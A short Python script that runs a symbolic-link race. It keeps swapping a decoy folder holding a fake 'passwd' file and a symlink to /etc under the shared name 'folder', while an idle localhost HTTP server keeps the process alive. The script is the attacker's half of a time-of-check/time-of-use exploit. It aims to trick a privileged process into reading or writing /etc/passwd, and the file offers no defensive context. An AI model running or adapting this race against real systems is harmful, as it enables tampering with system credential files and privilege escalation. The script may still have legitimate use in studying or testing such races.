"""Swap a folder and a symbolic link to /etc under one name, until the run is stopped."""

import os
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer


def swap() -> None:
    os.makedirs("real", exist_ok=True)
    with open("real/passwd", "w") as file:
        file.write("ours")
    for left in ("link", "folder"):
        if os.path.islink(left):
            os.unlink(left)
    os.symlink("/etc", "link")
    if os.path.isdir("folder"):
        os.rename("folder", f"away-{time.monotonic_ns()}")
    while True:
        os.rename("real", "folder")
        os.rename("folder", "real")
        os.rename("link", "folder")
        os.rename("folder", "link")


threading.Thread(target=swap, daemon=True).start()
HTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler).serve_forever()
